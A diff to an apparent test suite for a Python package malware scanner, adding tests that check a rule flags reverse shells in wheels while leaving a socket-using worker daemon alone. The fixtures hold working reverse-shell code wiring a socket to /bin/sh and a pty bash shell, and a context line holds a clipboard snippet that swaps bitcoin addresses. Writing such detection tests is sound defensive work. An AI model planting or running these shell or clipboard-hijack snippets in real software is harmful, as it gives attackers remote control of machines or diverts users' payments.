@@ -358,3 +358,49 @@ def test_clipboard_access_at_import(tmp_path: Path) -> None:
     init = "import pyperclip\nif pyperclip.paste().startswith('bc1'):\n    pyperclip.copy('bc1inert')\n"
     wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": init})
     assert decide(findings_for(wheel)) is Verdict.SUSPICIOUS
+
+
+# -- reverse shells ------------------------------------------------------------------------
+
+REVERSE_SHELL = """\
+import os, socket, subprocess
+
+def connect_back():
+    s = socket.socket()
+    s.connect(("127.0.0.1", 4444))
+    for fd in (0, 1, 2):
+        os.dup2(s.fileno(), fd)
+    subprocess.call(["/bin/sh", "-i"])
+"""
+
+PTY_SHELL = """\
+import os, pty, socket
+
+def connect_back():
+    s = socket.create_connection(("127.0.0.1", 4444))
+    os.dup2(s.fileno(), 0)
+    pty.spawn("/bin/bash")
+"""
+
+DAEMON = """\
+import os, socket
+
+def serve():
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    with open(os.devnull) as devnull:
+        os.dup2(devnull.fileno(), 0)
+    listener.listen()
+"""
+
+
+@pytest.mark.parametrize("source", [REVERSE_SHELL, PTY_SHELL], ids=["sh", "pty"])
+def test_socket_wired_to_a_shell_is_a_reverse_shell(tmp_path: Path, source: str) -> None:
+    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": "", "fixture/r.py": source})
+    assert "PV311" in rules(findings_for(wheel))
+
+
+def test_daemon_sending_stdio_to_devnull_is_not_a_reverse_shell(tmp_path: Path) -> None:
+    """pyspark's worker daemon: a socket and os.dup2, but no shell anywhere."""
+    wheel = make_wheel(tmp_path, "fixture", "1.0", {"fixture/__init__.py": "", "fixture/d.py": DAEMON})
+    assert "PV311" not in rules(findings_for(wheel))
